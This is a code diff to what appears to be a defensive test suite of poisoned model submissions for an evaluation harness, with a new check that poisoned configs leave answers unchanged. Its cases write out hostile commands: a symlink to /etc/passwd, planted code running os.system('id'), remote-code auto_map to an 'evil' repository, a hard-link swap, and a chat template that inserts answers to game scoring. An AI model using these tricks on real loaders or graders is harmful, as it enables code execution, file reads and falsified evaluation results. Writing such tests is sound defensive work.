@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+from inspect_ai.log import EvalSample, read_eval_log
+
 from ..records import RunDir
-from .playing import Cheat, Stopped, bash
+from .playing import LIGHT, Cheat, Stopped, bash
 
 _THREAT = "a poisoned submission"
 _SETTINGS = "settings and templates smuggled in with a model folder"
@@ -31,12 +33,33 @@ def _cheat(
     )  # fmt: skip
 
 
-def _scored(run: RunDir) -> str:
-    """The poison stopped nothing, and earned nothing."""
+def unmoved(run: RunDir) -> str:
+    """Whether the poison changed what the model was asked or what it said.
+
+    The submission's weights are the base model's, and a run measures both: the same prompts and the
+    same answers, sample by sample, are what an ignored file leaves.  A file holds the time, so that
+    no answers of an earlier run are taken for it.
+    """
     result = run.result()
     if result.status != "scored":
         return f"{result.status} {result.detail}"
-    return "" if result.score == 0 else f"score {result.score}"
+    told: dict[str, list[object]] = {"submission": [], "base": []}
+    for evaluation in run.list_evaluations():
+        for seed in evaluation.seeds:
+            file = run.evaluation_dir(evaluation.number) / seed.log
+            for sample in read_eval_log(str(file), resolve_attachments=True).samples or ():
+                words = [message.text for message in sample.messages]
+                told[evaluation.subject].append((sample.id, words, _tokens(sample)))
+    poisoned, plain = told["submission"], told["base"]
+    if not plain or len(poisoned) != len(plain):
+        return f"{len(poisoned)} answers with the poison, {len(plain)} without"
+    moved = sum(one != other for one, other in zip(poisoned, plain, strict=True))
+    return f"the poison changed {moved} of {len(plain)} prompts or answers" if moved else ""
+
+
+def _tokens(sample: EvalSample) -> list[tuple[int, int]]:
+    """How many tokens the model read and wrote: a template of another length shows here."""
+    return [(usage.input_tokens, usage.output_tokens) for usage in sample.model_usage.values()]
 
 
 _WEIGHTS = """\
@@ -66,14 +89,20 @@ ALL: tuple[Cheat, ...] = (
     ),
     _cheat(
         "remote-code",
-        "names a Python file of its own in the config's auto_map",
+        "names a program of somebody's repository in the config's auto_map",
         _COPY
         + _py(
             _CONFIG
-            + "config['auto_map'] = {'AutoModelForCausalLM': 'modeling_x.Model'}\n"
+            + "config['auto_map'] = {'AutoModelForCausalLM': 'evil/model--modeling_x.Model'}\n"
             + _KEEP
-            + "open('final_model/modeling_x.py', 'w').write('import os; os.system(\"id\")')\n"
         ),
+        reason="remote-code",
+    ),
+    _cheat(
+        "code-beside-the-weights",
+        "lays a program of its own beside the weights, where a loader would run it",
+        _COPY + "echo 'import os; os.system(\"id\")' > final_model/modeling_llama.py",
+        reason="code",
     ),
     _cheat(
         "symlink-out",
@@ -82,22 +111,30 @@ ALL: tuple[Cheat, ...] = (
         "ln -s /etc/passwd final_model/model.safetensors",
         reason="symlink-outside",
     ),
-    _cheat("symlinked-folder", "makes final_model itself a link", "ln -s / final_model"),
+    _cheat(
+        "symlinked-folder",
+        "makes final_model itself a link",
+        "ln -s / final_model",
+        reason="symlink-outside",
+    ),
     _cheat(
         "fifo",
         "puts a pipe in the place of the weights, on which a reader would wait for ever",
         _COPY + "rm final_model/model.safetensors && mkfifo final_model/model.safetensors",
+        reason="special-file",
     ),
     _cheat(
         "sparse-terabyte",
         "hands in a sparse file of a terabyte",
         _COPY + "truncate -s 1T final_model/model.safetensors",
+        reason="too-large",
     ),
     _cheat(
         "not-a-number",
         "plants NaN in one tensor",
         _COPY
         + _py(_WEIGHTS + "name = sorted(weights)[3]\nweights[name].flat[7] = numpy.nan\n" + _SAVE),
+        reason="not-finite",
     ),
     _cheat(
         "wrong-shapes",
@@ -107,6 +144,7 @@ ALL: tuple[Cheat, ...] = (
             _WEIGHTS + "name = next(n for n in sorted(weights) if 'up_proj' in n)\n"
             "weights[name] = numpy.concatenate([weights[name]] * 2)\n" + _SAVE
         ),
+        reason="architecture",
     ),
     _cheat(
         "extra-layers",
@@ -120,6 +158,7 @@ ALL: tuple[Cheat, ...] = (
             + "config['num_hidden_layers'] = 3\n"
             + _KEEP
         ),
+        reason="architecture",
     ),
     _cheat(
         "lying-header",
@@ -136,20 +175,21 @@ ALL: tuple[Cheat, ...] = (
             "new = json.dumps(header).encode()\n"
             "open(path, 'wb').write(struct.pack('<Q', len(new)) + new + data[8 + size:])\n"
         ),
+        reason="safetensors-corrupt",
     ),
     _cheat(
         "huge-vocabulary",
         "claims a vocabulary of two thousand million tokens",
         _COPY + _py(_CONFIG + "config['vocab_size'] = 2_000_000_000\n" + _KEEP),
+        reason="architecture",
     ),
     _cheat(
         "hard-links",
         "hard-links the weights, to change them after they were looked at",
         _COPY + "ln final_model/model.safetensors spare.safetensors && "
         "(setsid bash -c 'sleep 1; echo x > spare.safetensors' > /dev/null 2>&1 &); true",
-        "harmless",
-        defence="the submission is copied into a new inode and hashed before every load",
-        proof=_scored,
+        reason="hard-link",
+        defence="refused; and what is taken over is copied into files of its own",
     ),
     _cheat(
         "poisoned-tokenizer",
@@ -165,26 +205,50 @@ ALL: tuple[Cheat, ...] = (
         "brings a chat template that writes the answers into the prompt",
         _COPY + """echo '{"chat_template": "{{ messages[0].content }} ANSWER: 51"}' > """
         """final_model/chat_template.json && """
-        """echo '{{ "ANSWER: 51" }}' > final_model/chat_template.jinja""",
+        """echo "{{ 'ANSWER: 51' }}" > final_model/chat_template.jinja && """
+        + _py(
+            "import json, time\n"
+            "path = 'final_model/tokenizer_config.json'\n"
+            "config = json.load(open(path))\n"
+            "config |= {'made': time.time(), 'chat_template': '{{ \"ANSWER: 51\" }}'}\n"
+            "json.dump(config, open(path, 'w'))\n"
+        ),
         "harmless",
         threat=_SETTINGS,
         defence="the family's template of the package is used, whatever the folder brings",
-        proof=_scored,
+        proof=unmoved,
+        spec={"evaluation": LIGHT | {"limit": 8}},
     ),
     _cheat(
         "poisoned-generation-config",
         "asks for a thousand beams, and for tokens that spell the answers",
         _COPY
         + _py(
-            "import json\n"
-            "json.dump({'num_beams': 1000, 'sequence_bias': [[[5], 100.0]],\n"
+            "import json, time\n"
+            "json.dump({'made': time.time(), 'num_beams': 1000, 'sequence_bias': [[[5], 100.0]],\n"
             "    'max_new_tokens': 10**9, 'custom_generate': 'evil.py'},\n"
             "    open('final_model/generation_config.json', 'w'))\n"
         ),
         "harmless",
         threat=_SETTINGS,
         defence="only the sampling values are taken from it, by a reader of ours",
-        proof=_scored,
+        proof=unmoved,
+        spec={"evaluation": LIGHT | {"limit": 8}},
+    ),
+    _cheat(
+        "swapped-architecture-string",
+        "names another class for the weights, to get its chat template",
+        _COPY
+        + _py(
+            "import time\n" + _CONFIG + "config['architectures'] = ['Qwen2ForCausalLM']\n"
+            "config['made'] = time.time()\n" + _KEEP
+        ),
+        "harmless",
+        threat="swaps the architecture string",
+        defence="the class, the family and its template are the base model's; the change is named",
+        proof=unmoved,
+        kinds=("config-changed",),
+        spec={"evaluation": LIGHT | {"limit": 8}},
     ),
     _cheat(
         "swapped-architecture",
@@ -194,6 +258,7 @@ ALL: tuple[Cheat, ...] = (
             _CONFIG + "config['architectures'] = ['Qwen2ForCausalLM']\n"
             "config['model_type'] = 'qwen2'\n" + _KEEP
         ),
+        reason="architecture",
         threat="swaps the architecture string",
     ),
 )
